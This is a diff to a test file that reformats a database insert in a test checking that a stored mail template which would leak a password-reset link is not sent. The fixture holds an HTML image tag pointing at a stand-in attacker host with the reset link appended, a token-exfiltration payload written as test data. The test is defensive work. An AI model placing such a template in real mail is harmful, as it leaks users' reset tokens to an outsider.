@@ -75,15 +75,13 @@ describe('a text an older version kept', () => {
   afterAll(() => site.close())
 
   it('that would leak its link is not sent: the mail goes out as Bravik brings it', async () => {
-    await site.db
-      .insert(mailText)
-      .values({
-        key: 'reset',
-        subject: 'Hello',
-        plain: 'x',
-        html: '<img src="https://evil.example/?{link}">',
-        changedBy: 'test',
-      })
+    await site.db.insert(mailText).values({
+      key: 'reset',
+      subject: 'Hello',
+      plain: 'x',
+      html: '<img src="https://evil.example/?{link}">',
+      changedBy: 'test',
+    })
     const filled = filledText(await textFor(site.db, 'reset'), {
       name: 'Ines',
       link: 'https://mill.example/reset?token=secret',
